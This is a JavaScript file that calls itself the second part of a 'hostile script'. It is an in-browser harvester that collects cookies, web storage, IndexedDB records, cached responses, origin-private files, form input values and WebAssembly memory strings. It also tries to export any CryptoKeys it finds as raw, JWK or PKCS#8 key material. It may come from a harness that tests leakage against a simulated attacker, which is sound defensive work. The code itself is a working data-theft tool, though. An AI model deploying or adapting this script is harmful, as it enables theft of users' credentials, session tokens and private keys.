// The hostile script, second part: looks through everything that lies within its reach.

(() => {
  const { ownKeys, getOwnPropertyDescriptor } = Reflect;
  const { take, memories, quietly } = window.hostile;
  const settled = (request) => new Promise((done, failed) => {
    request.addEventListener("success", () => done(request.result));
    request.addEventListener("error", () => failed(request.error));
  });
  const attempted = async (work) => {
    try {
      return await work();
    } catch {
      return undefined;
    }
  };

  async function databases(into, keys) {
    for (const { name } of await indexedDB.databases()) {
      const database = await settled(indexedDB.open(name));
      for (const store of database.objectStoreNames) {
        const reading = () => database.transaction(store).objectStore(store);
        for (const record of [...(await settled(reading().getAllKeys())), ...(await settled(reading().getAll()))]) {
          take(record, into);
          for (const member of [record, ...Object.values(Object(record))]) if (member instanceof CryptoKey) keys.add(member);
        }
      }
      database.close();
    }
    for (const key of keys) {
      for (const format of ["raw", "jwk", "pkcs8"]) take(await attempted(() => crypto.subtle.exportKey(format, key)), into);
    }
  }

  async function files(folder, into) {
    for await (const [name, one] of folder.entries()) {
      take(name, into);
      if (one.kind === "directory") await files(one, into);
      else take(await (await one.getFile()).text(), into);
    }
  }

  /** Every place that outlives a script, as texts. */
  async function storage() {
    const into = new Set();
    for (const place of [localStorage, sessionStorage]) for (let at = 0; at < place.length; at++) take(`${place.key(at)}=${place.getItem(place.key(at))}`, into);
    for (const text of [document.cookie, window.name, location.href, document.referrer]) take(text, into);
    take(history.state, into);
    await attempted(() => databases(into, new Set()));
    for (const name of (await attempted(() => caches.keys())) ?? []) {
      const cache = await caches.open(name);
      for (const request of await cache.keys()) {
        take(`${name} ${request.url}`, into);
        take(await (await cache.match(request)).text(), into);
      }
    }
    await attempted(async () => files(await navigator.storage.getDirectory(), into));
    take(await attempted(async () => cookieStore.getAll()), into);
    return [...into];
  }

  const MOST = 400_000;
  /** Walks every object from the window on: globals, DOM, React's fibers, the exports of every module, what promises hold. */
  async function walk() {
    const into = new Set();
    const known = new Set([window.hostile, ...Object.values(window.hostile)]);
    let next = [window];
    const reach = (value) => {
      if ((typeof value === "object" && value !== null) || typeof value === "function") {
        if (!known.has(value) && known.size < MOST) known.add(value), next.push(value);
      } else take(value, into);
    };
    const addresses = [...performance.getEntriesByType("resource").map(({ name }) => name), ...[...document.querySelectorAll("script, link")].map((one) => one.src || one.href)];
    for (const address of new Set(addresses.filter((one) => /\.m?js$/.test(one) && one.startsWith(location.origin) && !/hostile|worker/.test(one)))) {
      reach(await attempted(() => import(address)));
    }
    while (next.length > 0) {
      const now = next;
      next = [];
      quietly(() => {
        for (const one of now) {
          try {
            look(one, reach);
          } catch {
            // An object of another origin, or one that has been closed.
          }
        }
      });
      // What promises hold has come by then.
      if (next.length === 0) await new Promise((turn) => setTimeout(turn));
    }
    take(document.documentElement.outerHTML, into);
    for (const input of document.querySelectorAll("input, textarea")) take(input.value, into);
    return { texts: [...into], objects: known.size };
  }

  function look(one, reach) {
    if (one instanceof Promise) one.then(reach, reach);
    if (ArrayBuffer.isView(one) || one instanceof ArrayBuffer) return reach(new TextDecoder("latin1").decode(one));
    if (one instanceof Map) for (const [name, value] of one) reach(name), reach(value);
    if (one instanceof Set) for (const value of one) reach(value);
    if (one instanceof Node) for (const child of one.childNodes) reach(child);
    if (one instanceof Headers) for (const pair of one) reach(pair);
    for (let owner = one; owner; owner = Object.getPrototypeOf(owner)) {
      for (const name of ownKeys(owner)) {
        if (owner === one) reach(typeof name === "symbol" ? name.description : name);
        const found = getOwnPropertyDescriptor(owner, name);
        if (found && "value" in found) reach(found.value);
        else if (found?.get && (owner === one || !(one instanceof Node || one === window))) {
          try {
            reach(found.get.call(one));
          } catch {
            // A member of another kind of object.
          }
        }
      }
    }
  }

  /** What the memories of WebAssembly hold that can be read as text. */
  const wasm = () => [...memories].flatMap((memory) => new TextDecoder("latin1").decode(memory.buffer).match(/[\x20-\x7e]{8,}/g) ?? []);

  Object.assign(window.hostile, { storage, walk, wasm, attempted, seenTexts: () => [...window.hostile.seen] });
})();
